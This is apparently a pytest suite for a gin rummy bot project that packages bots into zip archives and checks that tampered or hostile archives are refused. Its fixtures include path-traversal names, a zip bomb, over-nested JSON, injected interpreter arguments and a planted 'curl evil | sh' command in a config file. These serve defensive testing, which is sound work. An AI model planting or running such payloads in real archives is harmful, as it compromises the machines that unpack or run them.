"""Submission archives: every bundled bot packs and verifies from a clean copy; tampering is caught."""

import json
import zipfile

import pytest

from ginbots.connect.package import build_package, module_closure, verify_package

BOTS = ["simple", "random", "greedy", "keats", "planner"]


def test_only_the_modules_a_bot_imports_are_packed():
    keats = module_closure("ginbots.players.keats")
    assert "ginbots.players.keats" in keats and "ginbots.game.tactics" in keats and "ginbots.connect.bridge" in keats
    assert "ginbots.game.engine" not in keats and "ginbots.arena.match" not in keats and "ginbots.players.planner" not in keats


@pytest.mark.parametrize("bot", BOTS)
def test_every_bundled_bot_packages_and_verifies(bot, tmp_path):
    archive = build_package(bot, out_dir=tmp_path)
    with zipfile.ZipFile(archive) as zf:
        manifest = json.loads(zf.read("MANIFEST.json"))
        names = set(zf.namelist())
    assert manifest["bot"] == bot and "params.json" in names and "README.txt" in names
    assert set(manifest["files"]) == names - {"MANIFEST.json"}
    assert manifest["entry_points"]["java_class"] == "ginbots.GinbotsPlayer"
    report = verify_package(archive, games=2, fresh_env=False)
    assert report.ok, report.text()
    assert report.games == 2 and report.forfeits == 0


def test_tuned_parameters_travel_with_the_package(tmp_path, monkeypatch):
    params = tmp_path / "p.json"
    params.write_text('{"params": {"knock_threshold": 3}}')
    archive = build_package("keats", params_file=str(params), out_dir=tmp_path)
    with zipfile.ZipFile(archive) as zf:
        assert json.loads(zf.read("params.json")) == {"knock_threshold": 3}
        assert json.loads(zf.read("MANIFEST.json"))["hyperparameters"]["knock_threshold"] == 3


def _rewrite(archive, out, change):
    with zipfile.ZipFile(archive) as src, zipfile.ZipFile(out, "w") as dst:
        items = {n: src.read(n) for n in src.namelist()}
        change(items)
        for name, data in items.items():
            dst.writestr(name, data)
    return out


@pytest.mark.parametrize("change, words", [
    (lambda f: f.__setitem__("ginbots/game/melds.py", f["ginbots/game/melds.py"] + b"\n# evil\n"), "ginbots/game/melds.py: sha256"),
    (lambda f: f.pop("ginbots/game/rules.py"), "ginbots/game/rules.py: listed in the manifest but missing"),
    (lambda f: f.__setitem__("extra.py", b"print('hi')"), "extra.py: present but not in the manifest"),
    (lambda f: f.pop("MANIFEST.json"), "MANIFEST.json missing"),
])
def test_tampered_or_incomplete_archives_fail_with_the_file_named(change, words, tmp_path):
    good = build_package("simple", out_dir=tmp_path)
    bad = _rewrite(good, tmp_path / "bad.zip", change)
    report = verify_package(bad, games=1)
    assert not report.ok and any(words in p for p in report.problems), report.text()
    assert "FAIL" in report.text()


def test_a_file_that_is_not_an_archive_fails(tmp_path):
    junk = tmp_path / "junk.zip"
    junk.write_text("not a zip")
    assert not verify_package(junk).ok
    assert not verify_package(tmp_path / "missing.zip").ok


def test_package_and_verify_from_a_plain_install_outside_any_checkout(tmp_path):
    """`pip install .` (not editable), then package and verify from an unrelated folder: no javac, no checkout."""
    import os
    import subprocess
    import sys
    import zipfile
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    site = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation", "--target",
                    str(site), str(root)], check=True, capture_output=True, text=True, timeout=600)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = {**os.environ, "PYTHONPATH": str(site), "PATH": "/usr/bin:/bin"}  # no javac needed, none on the path
    run = lambda *args: subprocess.run([sys.executable, "-m", "ginbots", *args], cwd=elsewhere, env=env,  # noqa: E731
                                       capture_output=True, text=True, timeout=600)
    built = run("package", "keats:tuned", "-o", "dist")
    assert built.returncode == 0, built.stdout + built.stderr
    archive = next((elsewhere / "dist").glob("*.zip"))
    names = zipfile.ZipFile(archive).namelist()
    assert "java/classes/ginbots/GinbotsPlayer.class" in names and "java/classes/ginbots/bridge.properties" in names
    readme = zipfile.ZipFile(archive).read("README.txt").decode()
    assert "file:./java/classes/ginbots.GinbotsPlayer" in readme and "--verify" in readme
    checked = run("package", "--verify", str(archive), "--games", "2", "--no-venv")
    assert checked.returncode == 0 and "PASS" in checked.stdout, checked.stdout + checked.stderr


@pytest.mark.parametrize("make, words", [
    (lambda zf: (zf.writestr("a.txt", "1"), zf.writestr("a.txt", "2")), "holds it twice"),
    (lambda zf: zf.writestr("../escape.txt", "x"), "outside the archive"),
    (lambda zf: zf.writestr("bomb.bin", b"\0" * (40 << 20)), "zip bomb"),
    (lambda zf: zf.writestr("MANIFEST.json", "[1, 2]"), "malformed"),
    (lambda zf: zf.writestr("MANIFEST.json", '{"files": {"x": 3}}'), "malformed"),
])
def test_hostile_archives_get_a_fail_line_not_a_traceback(tmp_path, make, words):
    import warnings

    path = tmp_path / "bad.zip"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            make(zf)
    report = verify_package(path, games=0)
    assert not report.ok and words in report.text() and report.text().startswith(f"{path}: FAIL")


def test_a_file_that_is_not_a_zip_fails_cleanly(tmp_path):
    path = tmp_path / "junk.zip"
    path.write_bytes(b"PK\x03\x04 not really")
    assert "not a readable zip archive" in verify_package(path, games=0).text()


def test_a_third_party_bot_packs_its_own_code_and_verifies_in_a_fresh_environment(tmp_path, monkeypatch):
    """The organiser's way: a new virtual environment from the manifest; the bot's own module travels in the
    archive, and an archive without it fails verify naming the module."""
    import hashlib

    from test_registry_plugin import _install_fake_plugin

    _install_fake_plugin(tmp_path, monkeypatch)
    archive = build_package("cautious:patience=5", out_dir=tmp_path / "dist")
    with zipfile.ZipFile(archive) as zf:
        assert "thirdparty_bot.py" in zf.namelist()
    report = verify_package(archive, games=2)
    assert report.ok, report.text()
    # The same archive without the bot's module (and a manifest that agrees): verify names what is missing.
    stripped = tmp_path / "stripped.zip"
    with zipfile.ZipFile(archive) as src, zipfile.ZipFile(stripped, "w") as dst:
        manifest = json.loads(src.read("MANIFEST.json"))
        del manifest["files"]["thirdparty_bot.py"]
        for name in src.namelist():
            if name not in ("thirdparty_bot.py", "MANIFEST.json"):
                dst.writestr(name, src.read(name))
        dst.writestr("MANIFEST.json", json.dumps(manifest))
    assert hashlib.sha256(stripped.read_bytes()).hexdigest()
    report = verify_package(stripped, games=1)
    assert not report.ok and "thirdparty_bot" in report.text(), report.text()


def test_a_bot_importing_what_the_archive_cannot_carry_is_refused(tmp_path, monkeypatch):
    import textwrap

    from ginbots.connect.package import PackageError

    (tmp_path / "needy_bot.py").write_text(textwrap.dedent('''
        import scipy  # neither shipped nor required
        from ginbots.players.baselines import SimplePlayer

        class NeedyBot(SimplePlayer):
            name = "needy"
    '''))
    dist = tmp_path / "needy_bot-1.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: needy-bot\nVersion: 1.0\n")
    (dist / "entry_points.txt").write_text("[ginbots.players]\nneedy = needy_bot:NeedyBot\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(PackageError, match="imports scipy"):
        build_package("needy", out_dir=tmp_path / "dist")


def test_no_bundle_bot_pulls_a_training_dependency_into_its_archive():
    """Play-time code imports only numpy and onnxruntime; the calibration maps' fitting half (scikit-learn)
    once leaked into every estimator-using bot's closure and broke their archives."""
    from ginbots.connect.package import module_closure, outside_imports
    from ginbots.players.registry import BUILTIN_PLAYERS

    for target in BUILTIN_PLAYERS.values():
        modules = module_closure(target.partition(":")[0])
        assert outside_imports(modules) == [], target
        assert "ginbots.training.calibration" not in modules, target


def _rehashed(files, name, data):
    """An attacker's edit that also fixes the manifest's hash of the file."""
    import hashlib

    files[name] = data
    manifest = json.loads(files["MANIFEST.json"])
    manifest["files"][name] = hashlib.sha256(data).hexdigest()
    files["MANIFEST.json"] = json.dumps(manifest).encode()


@pytest.mark.parametrize("change, words", [
    (lambda f: _rehashed(f, "java/classes/ginbots/bridge.properties",
                         b"command=sh -c 'curl evil | sh'\ndirectory=../../..\n"), "bridge.properties starts"),
    (lambda f: f.__setitem__("MANIFEST.json", b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
     "nested too deeply"),
    (lambda f: f.__setitem__("MANIFEST.json", json.dumps({
        **json.loads(f["MANIFEST.json"]),
        "entry_points": {**json.loads(f["MANIFEST.json"])["entry_points"],
                         "bridge_args": ["-c", "import os", "--params", "params.json"]}}).encode()), "bridge_args"),
])
def test_an_archive_that_would_start_something_else_is_refused(change, words, tmp_path):
    archive = _rewrite(build_package("simple", out_dir=tmp_path), tmp_path / "evil.zip", change)
    report = verify_package(archive, games=1, fresh_env=False)
    assert not report.ok and any(words in p for p in report.problems), report.text()


def test_verification_lists_what_it_checked(tmp_path):
    report = verify_package(build_package("simple", out_dir=tmp_path), games=2, fresh_env=False)
    assert report.ok and len(report.checked) == 4
    assert "sandboxed" in report.text() and "bridge.properties" in report.text()


def test_an_import_guarded_by_except_import_error_is_optional(tmp_path, monkeypatch):
    """numba (the champion's compiled playouts) is optional: the archive works without it, so an import inside
    ``try: ... except ImportError`` is not a dependency; an unguarded one still is."""
    from ginbots.connect import package

    source = tmp_path / "optbot.py"
    source.write_text("try:\n    import numba\nexcept ImportError:\n    numba = None\nimport requests\n")
    monkeypatch.setattr(package, "_module_file", lambda name: (source, source.name) if name == "optbot" else None)
    assert package.outside_imports(["optbot"]) == ["requests"]
